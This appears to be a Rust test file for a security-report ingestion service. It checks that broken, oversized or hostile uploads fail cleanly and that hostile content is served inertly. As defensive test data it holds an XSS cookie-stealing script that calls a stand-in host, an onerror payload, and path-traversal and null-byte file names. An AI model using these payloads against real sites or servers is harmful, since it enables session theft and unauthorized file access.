//! Reports that are broken, foreign or hostile: each fails its own run, says why and where, and leaves nothing else behind.

use crate::look;
use crate::reports::{hit, maester, sarif, zero_trust};
use bailiwick_testkit::{Actor, World};
use serde_json::{Value, json};
use uuid::{Uuid, uuid};

const SOMEBODY: Uuid = uuid!("0817c655-a853-4d8f-9723-3a333b5b9235");
const AT: &str = "2026-11-20T06:00:00Z";

fn good() -> Vec<u8> {
    sarif("Scanner", true, &[hit("R1", "a.c", 3)])
}

struct Case {
    name: &'static str,
    bytes: Vec<u8>,
    code: &'static str,
    /// Words of the explanation.
    says: &'static str,
}

fn case(name: &'static str, bytes: impl Into<Vec<u8>>, code: &'static str, says: &'static str) -> Case {
    Case { name, bytes: bytes.into(), code, says }
}

fn utf16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn cases() -> Vec<Case> {
    let whole = good();
    let half = whole[..whole.len() / 2].to_vec();
    let run = |member: &str| format!(r#"{{"version":"2.1.0","runs":[{{"tool":{{"driver":{{"name":"T"}}}},{member}}}]}}"#);
    let posture = |member: &str| format!(r#"{{"TenantId":"{SOMEBODY}","ExecutedAt":"{AT}",{member}}}"#);
    let mut invalid = posture(r#""Tests":[{"Name":"caf?","Result":"Passed"}]"#).into_bytes();
    let at = invalid.iter().position(|b| *b == b'?').unwrap();
    invalid[at] = 0xe9;
    // A gzip member that would grow: what counts is that its bytes are refused before anything is unpacked.
    let bomb = [&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3][..], &[0xed, 0xc1, 1, 1, 0, 0, 0, 0x80, 0x90, 0xfe, 0xaf, 0xee, 8, 0, 0]].concat();
    vec![
        case("truncated", half, "bad_report", "cut short"),
        case("mistyped", run(r#""results":[{"ruleId":7}]"#), "bad_report", "expected a string"),
        case(
            "nested 200 deep",
            run(&format!(r#""results":[],"properties":{}{}"#, "[".repeat(200), "]".repeat(200))),
            "limit_exceeded",
            "64 levels",
        ),
        case("gzip bomb", bomb, "bad_report", "gzip"),
        case("NUL escaped", posture(r#""Tests":[{"Name":"a\u0000b","Result":"Passed"}]"#), "bad_report", "NUL"),
        case("NUL byte", posture("\"Tests\":[{\"Name\":\"a\0b\",\"Result\":\"Passed\"}]"), "bad_report", "NUL"),
        case("duplicate key", run(r#""results":[],"results":[]"#), "bad_report", "second time"),
        case("lone surrogate", posture(r#""Tests":[{"Name":"\ud83d","Result":"Passed"}]"#), "bad_report", "surrogate"),
        case("invalid UTF-8", invalid, "bad_report", "not valid UTF-8"),
        case("UTF-16 without its mark", utf16("{\"version\":\"2.1.0\",\"runs\":[]}"), "bad_report", "UTF-16"),
        case("UTF-32", b"\xff\xfe\x00\x00{\x00\x00\x00".to_vec(), "bad_report", "UTF-32"),
        case("only white space", "  \n ", "bad_report", "cut short"),
        case("SARIF 1.0", r#"{"version":"1.0.0","runs":[]}"#, "unknown_format", "SARIF version 1.0.0"),
        case("NaN", posture(r#""PassedCount":NaN,"Tests":[]"#), "bad_report", "NaN"),
        case("Infinity", posture(r#""PassedCount":-Infinity,"Tests":[]"#), "bad_report", "Infinity"),
        case("a web page", "<html><body>hello</body></html>", "unknown_format", "web page"),
        case("another format", r#"{"bomFormat":"CycloneDX"}"#, "unknown_format", "CycloneDX"),
        case("bytes", vec![0x89, b'P', b'N', b'G', 13, 10, 26, 10, 0, 0, 0, 13], "bad_report", ""),
    ]
}

async fn fetch(owner: &Actor, run: &str) -> Value {
    owner.get(&format!("/api/v1/runs/{run}")).await.ok()
}

#[tokio::test]
async fn each_broken_report_fails_its_run_with_code_and_place_and_the_next_one_works() {
    let world = World::new().await;
    let (pipeline, owner) = (world.contoso.pipeline(), world.contoso.owner());
    let mut runs = Vec::new();
    for case in cases() {
        let run = pipeline.submit(json!({"source": case.name}), &[("report.bin", &case.bytes)]).await;
        runs.push((run, case));
    }
    let good_run = pipeline.submit(json!({"source": "good"}), &[("scan.sarif", &good())]).await;
    world.work().await;
    for (run, case) in &runs {
        let seen = fetch(&owner, run).await;
        let failure = &seen["failure"];
        let name = case.name;
        assert_eq!((seen["state"].as_str(), failure["code"].as_str()), (Some("failed"), Some(case.code)), "{name}: {seen:#}");
        assert!(failure["detail"].as_str().unwrap().contains(case.says), "{name}: {failure}");
        assert!(failure["place"].is_string() || case.code == "unknown_format", "{name}: {failure}");
        let once = (&json!("report.bin"), &json!([]), &json!(1));
        assert_eq!((&failure["artifact"], &seen["series"], &seen["attempts"]), once, "{name}: a refused report is not tried again");
    }
    let seen = fetch(&owner, &good_run).await;
    assert_eq!((&seen["state"], &seen["findings"]["new"]), (&json!("succeeded"), &json!(1)), "{seen:#}");
    let overview = owner.get("/api/v1/overview").await.ok();
    assert!(!overview["failed_runs"].as_array().unwrap().is_empty(), "failed runs are seen on the first page");
    let mut sql = world.look().await;
    assert_eq!(look::number(&mut sql, "SELECT count(*) FROM bailiwick.observations").await, 1);
    assert_eq!(look::number(&mut sql, "SELECT count(*) FROM bailiwick.series").await, 1);
    assert_eq!(look::number(&mut sql, "SELECT count(*) FROM bailiwick.jobs WHERE kind = 'evidence.process'").await, 0);
    // A failed run gives its content up: sent again, it is a run of its own.
    let (_, case) = &runs[0];
    let again = pipeline.submit(json!({"source": case.name}), &[("report.bin", &case.bytes)]).await;
    assert_eq!(fetch(&owner, &again).await["state"], "queued");
}

#[tokio::test]
async fn reports_over_the_limits_are_refused_and_the_limit_is_named() {
    let world = World::with(|config| {
        config.limits.artifact_bytes = 4_000;
        config.limits.artifacts_per_run = 2;
        config.limits.results = 3;
        config.limits.depth = 12;
    })
    .await;
    let (pipeline, owner) = (world.contoso.pipeline(), world.contoso.owner());
    let run = pipeline.post("/api/v1/runs", json!({"source": "ci"})).await.ok()["id"].as_str().unwrap().to_owned();
    let put = |name: &str| format!("/api/v1/runs/{run}/artifacts/{name}");
    let large = pipeline.put_bytes(&put("large.json"), &[b' '; 4_001]).await;
    assert!(String::from_utf8_lossy(&large.bytes).contains("4000 bytes"), "{}", String::from_utf8_lossy(&large.bytes));
    assert_eq!(large.refused(413), "limit_exceeded");
    for name in ["one.json", "two.json"] {
        pipeline.put_bytes(&put(name), &good()).await.ok();
    }
    assert_eq!(pipeline.put_bytes(&put("three.json"), &good()).await.refused(413), "limit_exceeded");

    let many = sarif("Scanner", true, &(0..4).map(|n| hit("R1", &format!("{n}.c"), 1)).collect::<Vec<_>>());
    let deep = format!(
        r#"{{"version":"2.1.0","runs":[{{"tool":{{"driver":{{"name":"T"}}}},"properties":{}{}}}]}}"#,
        "[".repeat(12),
        "]".repeat(12)
    );
    for (name, bytes, says) in [("many", many, "limit of 3"), ("deep", deep.into_bytes(), "12 levels")] {
        let run = pipeline.submit(json!({"source": name}), &[("scan.sarif", &bytes)]).await;
        world.work().await;
        let failure = fetch(&owner, &run).await["failure"].clone();
        assert_eq!(failure["code"], "limit_exceeded", "{name}: {failure}");
        assert!(failure["detail"].as_str().unwrap().contains(says) && failure["place"].is_string(), "{name}: {failure}");
    }
}

#[tokio::test]
async fn one_run_holds_reports_of_one_family() {
    let world = World::new().await;
    let (pipeline, owner) = (world.contoso.pipeline(), world.contoso.owner());
    let directory = world.contoso.org.directory;
    let (one, other) = (maester(directory, AT, &[("MT.1001", "Failed")]), zero_trust(directory, AT));
    let run = pipeline.submit(json!({"source": "ci"}), &[("a.json", &one), ("b.json", &other)]).await;
    world.work().await;
    let failure = fetch(&owner, &run).await["failure"].clone();
    assert_eq!((&failure["code"], &failure["artifact"]), (&json!("bad_report"), &json!("b.json")), "{failure}");
    assert_eq!(owner.get("/api/v1/findings").await.ok()["items"], json!([]), "nothing of the good half is kept");
}

#[tokio::test]
async fn a_hostile_report_is_only_text() {
    let world = World::new().await;
    let (pipeline, owner) = (world.contoso.pipeline(), world.contoso.owner());
    let script = "<script>fetch('//evil.example/'+document.cookie)</script>";
    let mut hostile = hit("<img src=x onerror=alert(1)>", "file:///..%2f..%2f../etc/passwd", 1);
    hostile.text = script.into();
    let bytes = sarif("<b>T</b>", true, &[hostile]);
    let run = pipeline.submit(json!({"source": "<i>ci</i>"}), &[("scan.sarif", &bytes)]).await;
    world.work().await;
    let observations = owner.get(&format!("/api/v1/runs/{run}/observations")).await;
    assert_eq!(
        (&observations.headers["content-type"], &observations.headers["x-content-type-options"]),
        (&"application/json".parse().unwrap(), &"nosniff".parse().unwrap())
    );
    let told = observations.ok()["items"][0].clone();
    assert_eq!((&told["message"], &told["check_key"]), (&json!(script), &json!("<img src=x onerror=alert(1)>")));
    assert_eq!(told["location"]["path"], "(outside)/etc/passwd");

    let page = format!("<!DOCTYPE html><html><body>{script}</body></html>");
    let run = pipeline.submit(json!({"source": "pages"}), &[("report.html", page.as_bytes()), ("scan.sarif", &bytes)]).await;
    world.work().await;
    let download = owner.get(&format!("/api/v1/runs/{run}/artifacts/report.html")).await;
    assert_eq!(download.status, 200);
    let header = |name: &str| download.headers[name].to_str().unwrap().to_owned();
    assert_eq!((header("content-type").as_str(), header("x-content-type-options").as_str()), ("application/octet-stream", "nosniff"));
    assert!(header("content-disposition").starts_with("attachment;"), "{}", header("content-disposition"));
    assert!(header("content-security-policy").contains("default-src 'none'"));
    assert_eq!(download.bytes, page.as_bytes());
    let json = owner.get(&format!("/api/v1/runs/{run}/artifacts/scan.sarif")).await;
    assert_eq!(json.headers["content-type"], "application/json");
    assert!(json.headers["content-disposition"].to_str().unwrap().starts_with("attachment;"));
}

#[tokio::test]
async fn an_artifacts_name_leads_nowhere() {
    let world = World::new().await;
    let (pipeline, owner) = (world.contoso.pipeline(), world.contoso.owner());
    let run = pipeline.post("/api/v1/runs", json!({"source": "ci"})).await.ok()["id"].as_str().unwrap().to_owned();
    for name in ["..%2F..%2Fescape", "%2Fetc%2Fpasswd", "a%5Cb", "a%00b", "a%0Ab", &"x".repeat(201)] {
        let answer = pipeline.put_bytes(&format!("/api/v1/runs/{run}/artifacts/{name}"), &good()).await;
        assert_eq!(answer.refused(400), "bad_request", "{name}");
        let asked = owner.get(&format!("/api/v1/runs/{run}/artifacts/{name}")).await;
        assert!([400, 404].contains(&asked.status), "{name}: {}", asked.status);
    }
    let strange = "r%C3%A9sultats%20%22x%22%3B%0D.json".replace("%0D", "");
    pipeline.put_bytes(&format!("/api/v1/runs/{run}/artifacts/{strange}"), &good()).await.ok();
    let download = owner.get(&format!("/api/v1/runs/{run}/artifacts/{strange}")).await;
    assert_eq!(download.headers["content-disposition"], "attachment; filename*=UTF-8''r%C3%A9sultats%20%22x%22%3B.json");
}

#[tokio::test]
async fn a_directory_nobody_listed_is_refused_or_added_as_the_tenant_set_it() {
    let world = World::new().await;
    let bytes = maester(SOMEBODY, AT, &[("MT.1001", "Failed")]);
    let refused = world.fabrikam.pipeline().submit(json!({"source": "ci"}), &[("TestResults.json", &bytes)]).await;
    let added = world.contoso.pipeline().submit(json!({"source": "ci"}), &[("TestResults.json", &bytes)]).await;
    world.work().await;
    let seen = fetch(&world.fabrikam.owner(), &refused).await;
    assert_eq!((&seen["state"], &seen["failure"]["code"]), (&json!("failed"), &json!("unknown_directory")), "{seen:#}");
    assert!(seen["failure"]["detail"].as_str().unwrap().contains(&SOMEBODY.to_string()), "{seen:#}");
    let listed = |answer: Value| answer["items"].as_array().unwrap().iter().any(|d| d["id"] == json!(SOMEBODY));
    assert!(!listed(world.fabrikam.owner().get("/api/v1/directories").await.ok()));
    assert_eq!(fetch(&world.contoso.owner(), &added).await["state"], "succeeded");
    assert!(listed(world.contoso.owner().get("/api/v1/directories").await.ok()));
    // Listed by hand, it is taken; then the failed run can be tried again.
    world.fabrikam.owner().post("/api/v1/directories", json!({"id": SOMEBODY, "name": "Somebody"})).await.ok();
    world.fabrikam.admin().post(&format!("/api/v1/runs/{refused}/retry"), json!({})).await.ok();
    world.work().await;
    assert_eq!(fetch(&world.fabrikam.owner(), &refused).await["state"], "succeeded");
}
